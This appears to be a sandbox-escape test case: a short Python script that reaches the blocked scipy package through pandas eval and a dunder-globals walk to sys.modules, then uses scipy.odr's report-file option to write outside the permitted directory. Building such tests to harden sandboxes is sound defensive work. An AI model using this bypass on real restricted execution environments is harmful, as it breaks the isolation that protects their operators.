# class: module_reach
# technique: the whole scipy package (import scipy is refused) reached in expression text as scipy.stats' parent: @s.odr writes a report file (DataFrame.eval reached as functools.partial(frame.agg, 'eval')(...))
# goal: write
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
import functools


def ev(expr, **names):
    return functools.partial(frame.agg, "eval")(0, expr, local_dict=names)

u = "_" * 2
sp = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['scipy']", v=[np.vectorize])
odr = ev("@s.odr", s=sp)
x = np.linspace(0.0, 1.0, 10)
fit = odr.ODR(odr.Data(x, 3.0 * x + 1.0), odr.unilinear, beta0=[1.0, 0.0],
              rptfile="{{OUTSIDE_DIR}}/anyplot-escape-odr.rpt", iprint=1111)
df = pd.DataFrame({"beta": fit.run().beta})
